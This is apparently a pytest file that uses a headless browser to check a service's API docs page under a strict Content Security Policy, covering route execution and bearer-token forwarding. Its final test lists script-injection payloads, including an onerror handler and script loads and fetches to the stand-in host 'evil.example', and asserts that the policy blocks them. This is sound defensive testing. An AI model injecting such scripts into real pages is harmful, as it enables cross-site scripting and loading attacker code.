"""The docs page in a real browser, under a policy that lets in nothing but what is its own."""

from typing import Any

from chromium import NO_CHROMIUM, Browser, Page
from conftest import RunningProvider
from running import asking_for_tokens, serving, serving_alone, settings_for

pytestmark = NO_CHROMIUM

COMPLETE = "#operations-llm-complete_llm_complete_post"
SENTENCE = "Paris is the capital of France."


async def open_complete(page: Page) -> None:
    await page.click(f"{COMPLETE} .opblock-summary-control")
    await page.type(f"{COMPLETE} [data-param-name='X-Project-ID'] input", "demo")


async def test_a_route_can_be_tried_out_and_nothing_breaks_the_policy(
    provider: RunningProvider, chromium: Browser
) -> None:
    async with serving(settings_for(provider.url)) as service:
        async with chromium.page(f"{service.url}/docs") as page:
            await open_complete(page)
            await page.click(f"{COMPLETE} button.execute")
            await page.until(f"document.querySelector('{COMPLETE} .live-responses-table')")
            shown = await page.run(
                f"document.querySelector('{COMPLETE} .live-responses-table').innerText"
            )
            colour = await page.run(
                f"getComputedStyle(document.querySelector('{COMPLETE} button.execute'))"
                ".backgroundColor"
            )
    assert "200" in shown
    assert SENTENCE in shown
    assert colour not in {"rgba(0, 0, 0, 0)", "rgb(239, 239, 239)"}, "the styles are not there"
    assert page.complaints == []


async def test_a_token_goes_with_the_calls_of_the_page(
    provider: RunningProvider, chromium: Browser
) -> None:
    with_tokens = asking_for_tokens(settings_for(provider.url))
    async with serving_alone(with_tokens) as service:
        async with chromium.page(f"{service.url}/docs") as page:
            await page.click("button.authorize", "Authorize")
            await page.type(".modal-ux input", "a.b.c")
            await page.click(".modal-ux button.authorize", "Authorize")
            await page.click(".modal-ux button", "Close")
            await open_complete(page)
            await page.click(f"{COMPLETE} button.execute")
            await page.until(f"document.querySelector('{COMPLETE} .curl-command')")
            command = await page.run(
                f"document.querySelector('{COMPLETE} .curl-command').innerText"
            )
    assert "'Authorization: Bearer a.b.c'" in command
    (refused,) = page.complaints
    assert "401" in refused


async def test_what_is_slipped_into_the_page_does_not_run(
    provider: RunningProvider, chromium: Browser
) -> None:
    slipped_in: dict[str, Any] = {
        "a script": "x = document.createElement('script'); x.text = 'ran = 1'; head.append(x)",
        "a handler": "head.innerHTML += '<img src=x onerror=\"ran = 1\">'",
        "another host's script": "x = document.createElement('script'); "
        "x.src = 'http://evil.example/x.js'; head.append(x)",
        "a style": "head.innerHTML += '<style>body { color: red }</style>'",
        "a call to another host": "fetch('http://evil.example/').catch(() => 0)",
    }
    async with serving(settings_for(provider.url)) as service:
        for what, script in slipped_in.items():
            async with chromium.page(f"{service.url}/docs") as page:
                await page.until("document.querySelector('.opblock')")
                await page.run(f"{{ let x, head = document.head; {script}; 0 }}")
                for _ in range(100):
                    if page.complaints:
                        break
                    await page.run("new Promise((done) => setTimeout(done, 20))")
                assert any("Content Security Policy" in each for each in page.complaints), what
                assert await page.run("typeof ran") == "undefined", what
